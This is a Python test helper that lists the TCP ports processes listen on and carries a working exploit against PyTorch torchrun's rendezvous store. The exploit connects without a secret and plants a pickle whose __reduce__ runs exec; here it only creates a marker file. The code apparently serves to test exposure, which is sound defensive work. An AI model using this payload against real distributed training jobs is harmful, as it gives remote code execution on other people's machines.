"""At which addresses processes listen, and the attack on torchrun's own rendezvous."""

from __future__ import annotations

import socket
import subprocess
import sys
from collections.abc import Iterable, Sequence
from contextlib import suppress
from pathlib import Path

LISTEN = "0A"
ATTACK = """
import base64, pickle, sys
from datetime import timedelta
from torch.distributed import TCPStore

class Payload:
    def __reduce__(self):
        return exec, (f"open({sys.argv[3]!r}, 'w').close()",)

store = TCPStore(sys.argv[1], int(sys.argv[2]), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
keys = list(store.list_keys())
for key in keys:
    if "rendezvous" in key:
        store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
print("connected", len(keys))
"""
"""Reaches torchrun's store and leaves a pickle where its rendezvous would look: arguments address, port and a path that
the pickle creates. The attacker has no file of the job and no secret."""


def listening(pids: Iterable[int]) -> set[tuple[str, int]]:
    """Addresses and ports of TCP at which any of the processes listens, in whichever network namespace it is."""
    found = set()
    for pid in pids:
        with suppress(OSError):
            inodes = _sockets(pid)
            for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
                for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
                    fields = line.split()
                    if fields[3] == LISTEN and fields[9] in inodes:
                        found.add(_address(fields[1], family))
    return found


def attack(address: str, port: int, mark: Path, prefix: Sequence[str] = ()) -> subprocess.CompletedProcess[str]:
    """The attack from this machine, or by `prefix` from a namespace; its environment is empty.

    It ends when it gets no answer: gloo's ports take a connection and say nothing to who does not speak its protocol.
    """
    command = [*prefix, "timeout", "12", sys.executable, "-c", ATTACK, address, str(port), str(mark)]
    return subprocess.run(command, capture_output=True, text=True, env={})


def _sockets(pid: int) -> set[str]:
    """Inodes of the process's sockets."""
    links = []
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        with suppress(OSError):
            links.append(str(fd.readlink()))
    return {link[len("socket:[") : -1] for link in links if link.startswith("socket:[")}


def _address(text: str, family: socket.AddressFamily) -> tuple[str, int]:
    """The kernel writes the address as words in the processor's byte order."""
    host, _, port = text.partition(":")
    words = [bytes.fromhex(host[k : k + 8])[:: -1 if sys.byteorder == "little" else 1] for k in range(0, len(host), 8)]
    return socket.inet_ntop(family, b"".join(words)), int(port, 16)
